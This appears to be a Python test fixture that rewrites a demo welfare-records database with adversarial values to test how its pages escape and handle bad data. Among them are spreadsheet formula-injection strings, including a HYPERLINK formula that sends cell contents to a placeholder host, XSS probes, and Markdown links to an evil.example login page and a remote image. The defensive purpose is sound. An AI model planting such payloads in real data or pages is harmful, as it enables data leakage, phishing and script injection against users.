"""A hostile copy of the demo database, for tests that open it as an attacker's data would be.

``hostile_sqlite(path)`` and ``hostile_postgres(admin_url, name)`` build the demo and then
``make_hostile`` rewrites it (issue 18, "Tests"); ``Hostility`` picks which kinds of hostile
value go in, so a test of one layer can take only what it is about. Every change keeps the
codes and ids that rows join on, so the records still reach the pages.

What goes in (``Hostility()`` = all of it):

- ``text``: formula (``=HYPERLINK(…)``, ``+1``, ``-1+2``, ``@SUM(A1)``), Markdown (a link, a
  remote image, ``:red[…]``, ``$x^2$``, ``**…**``), HTML (``<script>``, ``<img onerror>``) and
  a 10.000-character text, cycled over every text column the pages read: unit, village,
  household-head and person names, ethnicity, class names and partners, event partners, legal
  bases, board decisions, bank names, and some rows of the stored codes that have no check
  constraint (child categories and support kinds, Decree 20 groups, grant sources and target
  groups, visit kinds), which a page shows as stored when it does not know them.
  On PostgreSQL those columns are widened to ``text`` first (a database made by another tool
  may well have them so; the schema's ``varchar(n)`` refuses 10.000 characters).
- ``numbers``: two payments near 2^63 (their sum overflows a 64-bit integer), a negative
  payment and grant, a grant near 2^62, a target of 1e28 and a negative one, a reported
  figure of 1e28, negative attendees, registrations and class hours, a negative and a
  2^31−1 population, a negative and a huge Decree 20 coefficient.
- ``nulls``: a paid payment without a payment date, a completed grant without a completion
  date, a supported child without a support date.
- ``dates``: payments, visits, grants, events, classes and child cases dated 2031 and 1900; a
  person born in 1900 and one born in 2031.
- ``malformed`` (SQLite only: PostgreSQL's DATE refuses it): a payment whose month is the
  text ``2023-13-45``.
- ``reference``: an allowance rate from 6/2023 with no end, overlapping the one in force; a
  second unit with the code of Xã Tân Lập (06917) and no end date, named as a Markdown link.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import sqlalchemy as sa
from sqlalchemy.engine import Connection, Engine

from data_access import schema as s
from data_access.demo.load import build_demo, build_demo_file
from devtools.pgserver import create_database

FORMULAS = ('=HYPERLINK("http://x/?"&A1,"x")', "+1", "-1+2", "@SUM(A1)")
LINK = "[Xã Tân Lập](https://evil.example/login)"
IMAGE = "![x](https://evil.example/p.png)"
MARKDOWN = (LINK, IMAGE, ":red[đỏ]", "$x^2$", "**đậm**")
HTML = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
LONG = ("Thôn rất dài Đầm Hà " * 500)[:10_000]
# Cycled over rows by id, so every kind of text lands in every column.
TEXTS = (*FORMULAS, *MARKDOWN, *HTML, LONG)
# What a page must never render as Markdown or HTML: each raw hostile text but the long one.
# Escaped text (``ui.text.plain``) holds none of them: a backslash precedes each mark.
RAW_MARKUP = (*MARKDOWN, *HTML)

NEAR_2_63 = 2**63 - 1_000  # two of them overflow a signed 64-bit sum
NEAR_2_62 = 2**62
HUGE_TARGET = 1e28
INT32_MAX = 2**31 - 1
MALFORMED_MONTH = "2023-13-45"
FUTURE_YEAR, PAST_YEAR = 2031, 1900
DUPLICATE_CODE = "06917"  # Xã Tân Lập: a second row with its code and no end date
QUANG_TAN = "06913"

# (table, column) of free text the pages read; every row gets one of TEXTS.
TEXT_COLUMNS: tuple[tuple[str, str], ...] = (
    ("admin_unit", "name"),
    ("admin_unit_succession", "legal_basis"),
    ("village", "name"),
    ("household", "head_name"),
    ("person", "full_name"),
    ("person", "ethnicity"),
    ("child_protection_board", "decision_no"),
    ("vocational_class", "name"),
    ("vocational_class", "partner"),
    ("job_event", "partner"),
    ("allowance_rate", "legal_basis"),
    ("allowance_beneficiary", "bank_name"),
    # the organisation's names, on every report's letterhead and in the whole-area labels
    ("organisation", "parent_name"),
    ("organisation", "body_caps"),
    ("organisation", "body_name"),
    ("organisation", "place"),
    ("organisation", "signer"),
    ("organisation", "recipients"),
    ("organisation", "area_label"),
)
# (table, column) of stored codes without a check constraint: every CODE_EVERY-th row gets a
# hostile text, which a page shows as stored (vocab's rule for an unknown code).
CODE_COLUMNS: tuple[tuple[str, str], ...] = (
    ("child_case", "category"),
    ("child_case", "support_kind"),
    ("allowance_beneficiary", "group_code"),
    ("housing_grant", "funding_source"),
    ("housing_grant", "target_group"),
    ("health_check", "kind"),
)
CODE_EVERY = 7
# Every unit, in both unit versions, by code: each hostile text names one; Xã Quảng Tân (the
# commune head's own) is a Markdown link, and a commune is a formula, as in the issue.
UNIT_NAMES = {
    "22": FORMULAS[3],
    "200": MARKDOWN[3],
    "06895": FORMULAS[0],
    "06898": LONG,
    "06901": FORMULAS[2],
    "06904": IMAGE,
    "06907": FORMULAS[1],
    "06910": MARKDOWN[2],
    "06913": LINK,
    "06916": MARKDOWN[4],
    "06917": HTML[0],
    "06919": HTML[1],
}


@dataclass(frozen=True)
class Hostility:
    """Which kinds of hostile value ``make_hostile`` writes (all by default)."""

    text: bool = True
    numbers: bool = True
    nulls: bool = True
    dates: bool = True
    malformed: bool = True  # SQLite only; ignored on PostgreSQL
    reference: bool = True


ALL = Hostility()


def hostile_sqlite(path: Path, hostility: Hostility = ALL) -> Path:
    """Build the demo at ``path`` (a SQLite file) and make it hostile; returns ``path``."""
    build_demo_file(path)
    engine = sa.create_engine(f"sqlite:///{path}")
    try:
        make_hostile(engine, hostility)
    finally:
        engine.dispose()
    return path


def hostile_postgres(admin_url: str, name: str, hostility: Hostility = ALL) -> str:
    """Create database ``name`` on the server of ``admin_url``, load the demo into it and make
    it hostile; returns its (writable) URL."""
    url = create_database(admin_url, name)
    engine = sa.create_engine(url)
    try:
        build_demo(engine)
        make_hostile(engine, hostility)
    finally:
        engine.dispose()
    return url


def make_hostile(engine: Engine, hostility: Hostility = ALL) -> None:
    """Rewrite the demo database behind ``engine`` (writable) with hostile values."""
    postgres = engine.dialect.name == "postgresql"
    with engine.begin() as conn:
        if hostility.text:
            if postgres:
                _widen(conn)
            _texts(conn)
        if hostility.numbers:
            _numbers(conn)
        if hostility.nulls:
            _nulls(conn)
        if hostility.dates:
            _dates(conn)
        if hostility.malformed and not postgres:
            _malformed(conn)
        if hostility.reference:
            _reference(conn)
    if postgres:
        with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
            conn.exec_driver_sql("ANALYZE")


# --- text ----------------------------------------------------------------------------------


def _widen(conn: Connection) -> None:
    for table, column in (*TEXT_COLUMNS, *CODE_COLUMNS):
        # Names from the constants above, never from data.
        conn.exec_driver_sql(f'ALTER TABLE "{table}" ALTER COLUMN "{column}" TYPE text')


def _cycled(conn: Connection, table: sa.Table, column: str, every: int = 1) -> None:
    """Give the rows of ``table`` (those whose id is a multiple of ``every``) the texts of TEXTS
    in turn, by id."""
    ids = conn.execute(sa.select(table.c.id).order_by(table.c.id)).scalars().all()
    chosen = [i for i in ids if i % every == 0]
    rows = [{"row_id": i, "text": TEXTS[n % len(TEXTS)]} for n, i in enumerate(chosen)]
    if rows:
        conn.execute(
            table.update().where(table.c.id == sa.bindparam("row_id")),
            [{"row_id": r["row_id"], column: r["text"]} for r in rows],
        )


def _texts(conn: Connection) -> None:
    tables = s.metadata.tables
    for table, column in TEXT_COLUMNS:
        _cycled(conn, tables[table], column)
    for table, column in CODE_COLUMNS:
        _cycled(conn, tables[table], column, every=CODE_EVERY)
    unit = s.admin_unit
    for code, name in UNIT_NAMES.items():
        conn.execute(unit.update().where(unit.c.code == code).values(name=name))
    conn.execute(
        s.dataset_info.insert().values(key="note", value=IMAGE, updated_at=datetime(2023, 12, 1))
    )
    info = s.dataset_info
    conn.execute(info.delete().where(info.c.key == "app_title"))  # the app's title, as data
    conn.execute(
        info.insert().values(key="app_title", value=MARKDOWN[0], updated_at=datetime(2023, 12, 1))
    )


# --- numbers --------------------------------------------------------------------------------


def _unit_id(conn: Connection, code: str) -> int:
    """The id of the 2023 unit with ``code``."""
    unit = s.admin_unit
    return int(
        conn.execute(
            sa.select(unit.c.id)
            .where(unit.c.code == code, unit.c.valid_from <= date(2023, 6, 30))
            .order_by(unit.c.id)
            .limit(1)
        ).scalar_one()
    )


def _a_beneficiary(conn: Connection, unit_id: int) -> tuple[int, str]:
    b = s.allowance_beneficiary
    row = conn.execute(
        sa.select(b.c.id, b.c.payment_method)
        .where(b.c.admin_unit_id == unit_id, b.c.end_month.is_(None))
        .order_by(b.c.id)
        .limit(1)
    ).one()
    return int(row.id), str(row.payment_method)


def _payment(
    conn: Connection, unit_id: int, month: date, amount: int, paid_on: date | None
) -> None:
    """A paid payment of ``amount`` for ``month`` to a beneficiary of the unit."""
    beneficiary, method = _a_beneficiary(conn, unit_id)
    conn.execute(
        s.allowance_payment.insert().values(
            beneficiary_id=beneficiary,
            admin_unit_id=unit_id,
            month=month,
            amount_vnd=amount,
            method=method,
            paid_on=paid_on,
            status="paid",
        )
    )


def _first_id(conn: Connection, table: sa.Table, offset: int = 0) -> int:
    return int(
        conn.execute(
            sa.select(table.c.id).order_by(table.c.id).offset(offset).limit(1)
        ).scalar_one()
    )


def _numbers(conn: Connection) -> None:
    quang_tan, dam_ha = _unit_id(conn, QUANG_TAN), _unit_id(conn, "06895")
    # Two payments near 2^63 in 2023 (the default year): their sum overflows 64 bits.
    _payment(conn, quang_tan, date(2023, 3, 1), NEAR_2_63, date(2023, 3, 10))
    _payment(conn, dam_ha, date(2023, 4, 1), NEAR_2_63, date(2023, 4, 10))
    _payment(conn, dam_ha, date(2023, 5, 1), -450_000, date(2023, 5, 10))
    g = s.housing_grant
    conn.execute(g.update().where(g.c.id == _first_id(conn, g)).values(amount_vnd=NEAR_2_62))
    conn.execute(g.update().where(g.c.id == _first_id(conn, g, 1)).values(amount_vnd=-70_000_000))
    for indicator, value in (("F15", HUGE_TARGET), ("F9", HUGE_TARGET), ("F2", -100.0)):
        conn.execute(
            s.target.insert().values(
                indicator=indicator, admin_unit_id=None, year=2023, value=value
            )
        )
    conn.execute(
        s.reported_figure.insert().values(
            indicator="F15",
            admin_unit_id=quang_tan,
            period_start=date(2023, 1, 1),
            period_end=date(2023, 3, 31),
            value=HUGE_TARGET,
            reported_on=date(2023, 4, 10),
        )
    )
    e, c = s.job_event, s.vocational_class
    conn.execute(
        e.update().where(e.c.id == _first_id(conn, e)).values(attendees=-50, registered=-3)
    )
    conn.execute(c.update().where(c.c.id == _first_id(conn, c)).values(hours=-40))
    u = s.admin_unit
    conn.execute(u.update().where(u.c.code == "06910").values(population=-3077))
    conn.execute(u.update().where(u.c.code == "06919").values(population=INT32_MAX))
    b = s.allowance_beneficiary
    conn.execute(b.update().where(b.c.id == _first_id(conn, b)).values(coefficient_x10=-15))
    conn.execute(
        b.update().where(b.c.id == _first_id(conn, b, 1)).values(coefficient_x10=INT32_MAX)
    )


# --- missing values -------------------------------------------------------------------------


def _nulls(conn: Connection) -> None:
    p, g, k = s.allowance_payment, s.housing_grant, s.child_case
    paid = conn.execute(
        sa.select(p.c.id).where(p.c.status == "paid").order_by(p.c.id).limit(1)
    ).scalar_one()
    conn.execute(p.update().where(p.c.id == paid).values(paid_on=None))
    done = conn.execute(
        sa.select(g.c.id).where(g.c.status == "completed").order_by(g.c.id).limit(1)
    ).scalar_one()
    conn.execute(g.update().where(g.c.id == done).values(completed_on=None))
    supported = conn.execute(
        sa.select(k.c.id).where(k.c.supported_on.is_not(None)).order_by(k.c.id).limit(1)
    ).scalar_one()
    conn.execute(k.update().where(k.c.id == supported).values(supported_on=None))


# --- dates ----------------------------------------------------------------------------------


def _dates(conn: Connection) -> None:
    quang_tan = _unit_id(conn, QUANG_TAN)
    future, past = date(FUTURE_YEAR, 5, 1), date(PAST_YEAR, 1, 1)
    _payment(conn, quang_tan, future, 500_000, date(FUTURE_YEAR, 5, 10))
    _payment(conn, quang_tan, past, 500_000, date(PAST_YEAR, 1, 10))
    moved = (
        (s.health_check, ("check_date",)),
        (s.housing_grant, ("approved_on", "deadline")),
        (s.job_event, ("event_date",)),
        (s.vocational_class, ("start_date", "end_date")),
        (s.child_case, ("opened_on",)),
    )
    for table, columns in moved:
        for offset, day in ((2, future), (3, past)):
            row = _first_id(conn, table, offset)
            conn.execute(
                table.update().where(table.c.id == row).values(dict.fromkeys(columns, day))
            )
    person = s.person
    conn.execute(
        person.update().where(person.c.id == _first_id(conn, person, 5)).values(birth_date=past)
    )
    conn.execute(
        person.update().where(person.c.id == _first_id(conn, person, 6)).values(birth_date=future)
    )


def _malformed(conn: Connection) -> None:
    """SQLite keeps any text in a DATE column: a month that does not exist."""
    beneficiary, method = _a_beneficiary(conn, _unit_id(conn, QUANG_TAN))
    conn.execute(
        sa.text(
            "INSERT INTO allowance_payment "
            "(beneficiary_id, admin_unit_id, month, amount_vnd, method, paid_on, status) "
            "SELECT :b, admin_unit_id, :month, 500000, :method, NULL, 'paid' "
            "FROM allowance_beneficiary WHERE id = :b"
        ),
        {"b": beneficiary, "month": MALFORMED_MONTH, "method": method},
    )


# --- reference data -------------------------------------------------------------------------


def _reference(conn: Connection) -> None:
    conn.execute(
        s.allowance_rate.insert().values(
            valid_from=date(2023, 6, 1), valid_to=None, amount_vnd=360_000, legal_basis=LINK
        )
    )
    district = conn.execute(
        sa.select(s.admin_unit.c.id).where(s.admin_unit.c.kind == "district")
    ).scalar_one()
    conn.execute(
        s.admin_unit.insert().values(
            code=DUPLICATE_CODE,
            name=LINK,
            kind="xa",
            parent_id=district,
            population=1,
            valid_from=date(2023, 1, 1),
            valid_to=None,
        )
    )
